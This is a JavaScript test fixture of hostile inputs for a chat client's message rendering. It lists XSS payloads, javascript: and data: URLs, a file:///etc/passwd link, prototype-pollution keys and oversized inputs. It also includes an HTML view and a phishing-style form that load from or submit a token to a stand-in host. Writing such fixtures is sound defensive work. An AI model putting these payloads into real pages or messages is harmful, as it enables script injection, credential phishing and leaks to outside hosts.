// What attackers put into messages, names and values. All of it has to be words on a page.

/** A host that nobody may be led to without being asked. */
const HOST = "http://elsewhere.test";

/** Markup that would run, load, leave or break out if a page took it for its own. */
export const BREAKOUTS = [
  "<script>alert(1)</script>",
  `<script src="${HOST}/x.js"></script>`,
  "<img src=x onerror=alert(1)>",
  "\"><img src=x onerror=alert(1)>",
  "'><svg/onload=alert(1)>",
  "\" onmouseover=\"alert(1)\" autofocus onfocus=\"alert(1)",
  "</pre></code></textarea></title></style></script></iframe><script>alert(1)</script>",
  "&lt;img src=x onerror=alert(1)&gt;",
  "&#60;script&#62;alert(1)&#60;/script&#62;",
  "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
  "\" srcdoc=\"<script>parent.alert(1)</script>",
  "\" sandbox=\"allow-scripts allow-same-origin",
  `<iframe src="${HOST}/"></iframe>`,
  `<object data="${HOST}/x"></object><embed src="${HOST}/x">`,
  `<base href="${HOST}/">`,
  `<meta http-equiv="refresh" content="0;url=${HOST}/">`,
  `<link rel="stylesheet" href="${HOST}/x.css">`,
  `<style>@import url(${HOST}/x.css); * { display: none }</style>`,
  `<div style="background: url(${HOST}/x.png); position: fixed; inset: 0">`,
  `red; background: url(${HOST}/x.png)`,
  `<form action="${HOST}/"><input name=token autofocus><button>Sign in</button></form>`,
  "<a href=javascript:alert(1)>here</a>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  "<!--><script>alert(1)</script-->",
  "]]><script>alert(1)</script>",
  "{{ 7 * 7 }}{% raw %}${alert(1)}",
  "\u2028alert(1)\u2029",
  "\u202Eright to left\u202C \u200B\uFEFF",
  "\u001B[31mred\u001B[0m",
  "__proto__",
];

/** Addresses that run something or say that they are another's. */
export const LINKS = [
  "javascript:alert(1)",
  "JaVaScRiPt:alert(1)",
  " java\tscript:alert(1)",
  "javascript://example.com/%0Aalert(1)",
  "data:text/html,<script>alert(1)</script>",
  "vbscript:msgbox(1)",
  "blob:http://127.0.0.1/x",
  "file:///etc/passwd",
  "//elsewhere.test/",
  "http://elsewhere.test/\"onclick=\"alert(1)",
];

/** All of them in one text. */
export const ALL = BREAKOUTS.join(" ");

/** A web page that tries what a page in a frame may try; only to be shown in a sandboxed frame. */
export const HTML_VIEW = `
  <p id="words">what the view says</p>
  <script>alert(1); top.document.body.innerHTML = ""; fetch("${HOST}/script")</script>
  <img src=x onerror="parent.hostile = 1; alert(1)"><img src="${HOST}/image.png">
  <svg onload="top.alert(1)"><script>alert(1)</script><image href="${HOST}/svg.png"/></svg>
  <style>@import url(${HOST}/import.css); body { background: url(${HOST}/background.png) }
    @font-face { font-family: x; src: url(${HOST}/font.woff) } p { font-family: x }</style>
  <link rel="stylesheet" href="${HOST}/link.css"><link rel="prefetch" href="${HOST}/prefetch">
  <link rel="preconnect" href="${HOST}/"><link rel="dns-prefetch" href="${HOST}/">
  <meta http-equiv="refresh" content="0;url=${HOST}/refresh"><base target="_top">
  <form action="${HOST}/form" target="_top"><input autofocus name="q"><button id="send">Send</button></form>
  <a id="top" href="${HOST}/top" target="_top">to the top</a>
  <a id="blank" href="${HOST}/blank" target="_blank">a window</a>
  <a id="self" href="${HOST}/self" target="_self">in place</a>
  <a id="download" href="${HOST}/file" download>a file</a>
  <a id="script" href="javascript:top.alert(1)">a script</a>
  <iframe src="${HOST}/frame"></iframe><iframe srcdoc="<script>top.alert(1)</script>"></iframe>
  <object data="${HOST}/object"></object><embed src="${HOST}/embed">
  <video src="${HOST}/video" poster="${HOST}/poster" autoplay></video><audio src="${HOST}/audio" autoplay></audio>
  </iframe></div><script>alert(1)</script>`;

/** Messages that arrive from whoever knows the inbox's address. */
export const MESSAGES = {
  "every text": {
    text: ALL,
    flockml: `<flockml>${escaped(ALL)}</flockml>`,
    notification: ALL,
    sendAs: { name: ALL, profileImage: LINKS[0] },
    attachments: [
      {
        title: ALL,
        description: ALL,
        color: BREAKOUTS[19],
        url: LINKS[0],
        views: { flockml: `<flockml><b>${escaped(ALL)}</b></flockml>` },
        buttons: BREAKOUTS.slice(0, 6).map((name, at) => ({
          name,
          icon: LINKS[at],
          id: name,
          action: { type: "openBrowser", url: LINKS[at] },
        })),
        downloads: [{ src: LINKS[0], filename: ALL, mime: ALL, size: -1 }],
      },
    ],
  },
  "FlockML that is no FlockML": { flockml: `<flockml>${ALL}</flockml>` },
  "FlockML with HTML in it": {
    flockml: `<flockml><script>alert(1)</script><img src="x" onerror="alert(1)"/><b onclick="alert(1)" style="position:fixed">x</b></flockml>`,
  },
  links: {
    flockml: `<flockml>${LINKS.map((link) => `<a href="${escaped(link)}">${escaped(link)}</a><br/>`).join("")}</flockml>`,
  },
  actions: {
    flockml: `<flockml>${LINKS.map((link, at) => `<action id="${at}" type="openBrowser" url="${escaped(link)}">press</action> `).join("")}</flockml>`,
  },
  images: {
    text: "images",
    attachments: LINKS.slice(0, 6).map((src) => ({
      title: "image",
      views: { image: { original: { src, width: 1e9, height: -5 }, thumbnail: { src }, filename: ALL } },
    })),
  },
  "an address that is to be loaded": {
    text: "images",
    attachments: [{ views: { image: { original: { src: `${HOST}/x.png`, width: 10, height: 10 } } } }],
  },
  widgets: {
    text: "widgets",
    attachments: LINKS.slice(0, 6).map((src) => ({ title: "widget", views: { widget: { src, width: 9e9, height: "x" } } })),
  },
  "what is of the wrong type": {
    text: { toString: "x" },
    flockml: ["<b>"],
    sendAs: "Alerts",
    notification: 7,
    mentions: "u:x",
    attachments: [null, 1, "x", { title: {}, views: [], buttons: { name: "x" }, color: 3, downloads: "x" }],
    ["__proto__"]: { polluted: true },
  },
  "a deep one": { text: "deep", attachments: [nested(200)] },
  "a long one": { text: "word ".repeat(20_000), flockml: `<flockml>${"<b>x</b>".repeat(5_000)}</flockml>` },
  "one long word": { text: "x".repeat(100_000), notification: "y".repeat(100_000) },
  "many attachments": { text: "many", attachments: Array.from({ length: 500 }, (_, at) => ({ title: `no ${at}` })) },
};

/** Message with a web page as its view. */
export const WITH_HTML = {
  text: "with a view",
  attachments: [{ title: "View", views: { html: { inline: HTML_VIEW, width: 400, height: 200 } } }],
};

function nested(levels) {
  let value = "end";
  for (let level = 0; level < levels; level += 1) value = { views: value };
  return value;
}

/** As text and as an attribute of FlockML, without what XML cannot carry. */
export function escaped(text) {
  const entities = { "&": "&amp;", "<": "&lt;", ">": "&gt;", '"': "&quot;", "'": "&apos;" };
  return text.replace(/[\u0000-\u0008\u000B-\u001F\uFFFE\uFFFF]/g, "").replace(/[&<>"']/g, (one) => entities[one]);
}
